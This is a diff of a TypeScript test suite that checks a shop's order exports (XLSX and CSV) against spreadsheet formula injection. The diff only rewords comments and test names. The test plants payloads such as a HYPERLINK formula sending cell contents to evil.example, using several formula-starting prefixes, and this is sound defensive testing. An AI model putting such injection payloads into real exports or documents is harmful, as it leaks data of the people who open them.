@@ -7,7 +7,7 @@ import type { OrderBench } from '../src/features/orders/orders.testing.ts'
 import { openZip } from '../src/platform/zip-reader.ts'
 import { exporting } from './exporting.ts'
 
-/** What a spreadsheet takes for a formula, or strips until it is one. */
+/** Beginnings that a spreadsheet reads as a formula, or strips until a formula is left. */
 const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0001=', '＝', '＋', '－', '＠']
 const HOSTILE = BEGINNINGS.map((beginning) => `${beginning}HYPERLINK("http://evil.example/?"&A1,"x")`)
 const begins = (text: string): boolean => BEGINNINGS.some((beginning) => text.startsWith(beginning[0]!))
@@ -25,7 +25,7 @@ const query = (sql: string, values: unknown[]): Promise<unknown> => bench.app.db
 /** An order line and a purchase for each text. */
 async function soldAndBought(): Promise<void> {
   const { app } = bench
-  // One each, as equal goods of several orders are kept once.
+  // A different variant for each, since equal variants of several orders are stored once.
   const variants = (await bench.variants()).slice(0, HOSTILE.length)
   const orders = variants.map(({ variantId }) => bench.buy([{ variantId, quantity: 1 }]))
   const bought = await Promise.all(orders)
@@ -41,7 +41,7 @@ async function soldAndBought(): Promise<void> {
   await bench.quiet()
 }
 
-/** By the database, whatever a call or a shop would trim, into every column of text that people or outsiders fill. */
+/** Written by SQL into every text column that people or other systems fill, since a call or a shop might trim the text. */
 async function plant(): Promise<void> {
   for (const [nr, text] of HOSTILE.entries()) {
     const nth = (table: string): string => `(select id from ${table} order by id offset ${nr} limit 1)`
@@ -81,26 +81,26 @@ async function plant(): Promise<void> {
   }
 }
 
-/** A cell as it stands in the file. `isText`: a spreadsheet shows it, and does not reckon with it. */
+/** A cell as it is in the file. `isText`: a spreadsheet displays it and does not evaluate it. */
 type Raw = { text: string; isText: boolean }
 
 const unescaped = (xml: string): string => xml.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')
-/** Numbers are left out: they have no beginning that anybody chose. */
+/** Numeric cells are left out: nobody can choose their first character. */
 async function workbookCells(path: string): Promise<Raw[]> {
   const response = await fetch(`${bench.app.url}${path}`)
   expect(response.status).toBe(200)
   const zip = await openZip(Buffer.from(await response.arrayBuffer()), 10_000_000)
   const xml = await textOf(zip.part('xl/worksheets/sheet1.xml')!)
-  // Neither formulas nor texts that lie elsewhere: then every cell is one of the two kinds below.
+  // No formulas and no shared or string-result cells: then every cell is one of the two kinds below.
   expect(xml).not.toMatch(/<f[\s>/]|t="s"|t="str"/)
   return [...xml.matchAll(/<c r="[A-Z]+\d+"([^>]*)>(.*?)<\/c>/gs)].flatMap(([, attributes, inner]) => {
     if (/^<v>-?[\d.e+-]+<\/v>$/.test(inner!)) return []
     const text = unescaped(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(inner!)![1]!)
-    // The mark keeps it text when somebody opens the cell and presses Enter.
+    // The style marks it as text, so it stays text when somebody edits the cell and presses Enter.
     return [{ text, isText: attributes === ' t="inlineStr" s="1"' }]
   })
 }
-/** By RFC 4180. What begins with a quote of ours is text to a spreadsheet. */
+/** Parsed by RFC 4180. A cell that starts with our apostrophe is text to a spreadsheet. */
 function csvCells(csv: string): Raw[] {
   const CELL = /"((?:[^"]|"")*)"(?:,|\r\n)/g
   expect(csv.slice(1).replaceAll(CELL, '')).toBe('')
@@ -122,14 +122,14 @@ async function orderSheet(): Promise<Raw[]> {
   return workbookCells((await bench.app.ok('downloadOrderExport', { taskId: task.id })).url)
 }
 
-test('every call that exports is looked at here', () => {
+test('every call that exports is tested here', () => {
   expect(Object.keys(sheets).toSorted()).toEqual(exporting.toSorted())
 })
 
-test.each(exporting)('%s hands out no cell that a spreadsheet would take for a formula', async (name) => {
+test.each(exporting)('%s returns no cell that a spreadsheet would evaluate as a formula', async (name) => {
   const cells = await sheets[name]!()
   expect(cells.filter(({ text, isText }) => begins(text) && !isText)).toEqual([])
-  // Control signs that XML cannot hold are left out of a workbook.
+  // A workbook leaves out control characters that XML can't contain.
   const seen = new Set(cells.map(({ text }) => text.replace('\u0001', '')))
   expect(HOSTILE.filter((text) => !seen.has(text.replace('\u0001', '')))).toEqual([])
 })
